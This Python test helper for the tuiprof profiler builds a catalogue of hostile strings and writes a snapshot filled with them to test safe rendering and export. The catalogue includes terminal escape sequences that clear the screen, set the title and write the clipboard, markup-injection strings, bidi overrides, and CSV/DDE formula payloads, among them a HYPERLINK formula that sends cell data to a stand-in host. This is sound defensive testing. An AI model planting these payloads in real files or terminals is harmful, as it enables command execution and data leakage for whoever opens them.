"""A catalogue of hostile names, and a snapshot full of them.

Kernel, NVTX, API, module and process names come from binaries and programs tuiprof does not
control; snapshots come from other people. Every name here is a way such a string has broken
(or could break) a terminal, a markup parser, a spreadsheet or a line-based report.

``python3 tests/hostile.py OUT.json`` writes the hostile snapshot (the tmux screens use it).
"""
from __future__ import annotations

import gzip
import json
import os
import sys
from pathlib import Path

ESC_CLEAR_TITLE_CLIP = "\x1b[2J\x1b]0;pwned\x07\x1b]52;c;cHduZWQ=\x07"   # clear, title, clipboard
HOSTILE = (
    "[/bold]x[link=file:///etc/passwd]y[/link]",           # Rich markup: MarkupError, a link
    "evil" + ESC_CLEAR_TITLE_CLIP + "kernel",              # clear screen, set title, clipboard
    "[@click=app.quit]click me[/]",                        # Textual action markup
    "[bold red on white]LOUD[/]",                          # markup that would style, not crash
    "\u202eevil_lenrek\u202c",                             # bidi override: reads backwards
    "\u2066isolate\u2069\u200f",                           # bidi isolate, right-to-left mark
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",     # spreadsheet formula
    "+cmd|' /C calc'!A0",                                  # DDE formula
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "line\nbreak\r\nand\rreturn",                          # breaks a line-based report
    "nul\x00bell\x07del\x7fc1\x85ls\u2028ps\u2029",        # C0, C1 and Unicode line separators
    "tab\there,comma,\"quote\"",                          # CSV field separators
    "\\[not markup] back\\slash\\",                        # markup escapes themselves
    "\ud800lone surrogate",                               # cannot be encoded as UTF-8
    "k" * 3000 + "\x1b[2J",                                # very long, the escape at the end
)
# Distinct kernel names: each hostile string, told apart (a table keys rows by name).
MARKERS = ("\x1b", "\x07", "\x9b", "\u202e", "\u2066", "\ud800")


# Only terminal escapes (no markup): what reached the terminal raw before markup was escaped
# (the markup names crashed the viewer first, hiding it).
ESCAPES = tuple(h for h in HOSTILE if "[" not in h or "\x1b" in h)


def kernel_names(n: int, catalogue: tuple = HOSTILE) -> list[str]:
    """``n`` distinct hostile names (the catalogue, then the catalogue again with a suffix)."""
    out = []
    for i in range(n):
        base = catalogue[i % len(catalogue)]
        out.append(base if i < len(catalogue) else f"{base} #{i}")
    return out


def hostile_recording(fixture: Path, catalogue: tuple = HOSTILE) -> dict:
    """The eager H100 fixture with every kernel renamed hostile, and hostile meta."""
    with gzip.open(fixture) as fh:
        rec = json.load(fh)
    names = sorted({r[1] for r in rec["records"] if r[0] == "K"})
    rename = dict(zip(names, kernel_names(len(names), catalogue)))
    for r in rec["records"]:
        if r[0] == "K":
            r[1] = rename[r[1]]
    rec["meta"]["model"] = HOSTILE[0] + HOSTILE[1]
    rec["meta"]["device"] = HOSTILE[4] + " H100"
    return rec


def hostile_view(fixture: Path, catalogue: tuple = HOSTILE):
    """A store view of the hostile recording, with hostile output, events and collectors."""
    from tuiprof.collect.replay import replay_into, validate_recording
    from tuiprof.store import SessionStore

    store = SessionStore(ring_tokens=8)
    rec = validate_recording(hostile_recording(fixture, catalogue), "hostile")
    if catalogue is not HOSTILE:
        replay_into(rec, store)
        return store.view()
    rec.meta["model"] = HOSTILE[0] + HOSTILE[1]      # what a live session's meta would hold
    rec.meta["device"] = HOSTILE[4] + " H100"
    replay_into(rec, store)
    first = next(iter(store.view().tokens))
    store.add_records([("R", name, first.start_ns + 10, first.start_ns + 20, 10_000 + i)
                       for i, name in enumerate(HOSTILE)])
    store.add_output(list(HOSTILE))
    for name in HOSTILE[:4]:
        store.add_event("error", name)
    store.set_collector("nvml", False, HOSTILE[1])
    return store.view()


def hostile_doc(fixture: Path) -> dict:
    """A snapshot document whose every free-text field is hostile (what a shared file may hold:
    the loader takes any string the schema allows)."""
    from tuiprof.export.snapshot import snapshot_dict

    doc = snapshot_dict(hostile_view(fixture))
    meta = doc["meta"]
    meta.update(model=HOSTILE[0] + HOSTILE[1], device=HOSTILE[4] + " H100",
                driver=HOSTILE[6], torch=HOSTILE[2], dtype=HOSTILE[10],
                program={"name": HOSTILE[1], "argv": list(HOSTILE[:3]), "log": HOSTILE[0],
                         "running": False, "exit_status": 7, "ended": "exited",
                         "error": HOSTILE[1], "traceback": list(HOSTILE[:3]), "output_lines": 3})
    for name in HOSTILE[:6]:
        doc["nvtx"][name] = dict(doc["nvtx"]["step"])
    doc["output"] = list(HOSTILE)
    doc["events"] = [[0, 1, "error", name] for name in HOSTILE[:6]]
    doc["collectors"]["cupti"] = {"ok": True, "message": HOSTILE[1]}
    return doc


def write_hostile_snapshot(fixture: Path, out: Path, catalogue: tuple = HOSTILE) -> Path:
    """The hostile snapshot; with another ``catalogue``, only its kernel names are hostile."""
    from tuiprof.export.snapshot import dumps, snapshot_dict

    doc = hostile_doc(fixture) if catalogue is HOSTILE else snapshot_dict(
        hostile_view(fixture, catalogue))
    out.write_bytes(dumps(doc))
    return out


def has_raw_control(text: str) -> list[str]:
    """The hostile characters that reached ``text`` as they are (empty: none did)."""
    found = [m for m in MARKERS if m in text]
    found += [c for c in ("\x00", "\x85", "\u2028", "\u2029") if c in text]
    return found


def is_number(cell: str) -> bool:
    """A CSV cell that reads as a number (a leading minus there is a sign, not a formula)."""
    try:
        float(cell.replace(",", ""))
        return True
    except ValueError:
        return False


if __name__ == "__main__":
    # the eager H100 recording the tests replay (TUIPROF_FIXTURES: a folder holding another)
    fixtures = os.environ.get("TUIPROF_FIXTURES")
    fixture = (Path(fixtures) / "h100_qwen3-0.6b_eager_decode64.json.gz" if fixtures else
               Path(__file__).resolve().parent / "data" / "qwen3-0.6b_eager_decode64.json.gz")
    path = write_hostile_snapshot(fixture,
                                  Path(sys.argv[1] if len(sys.argv) > 1 else "hostile.json"))
    print(path)
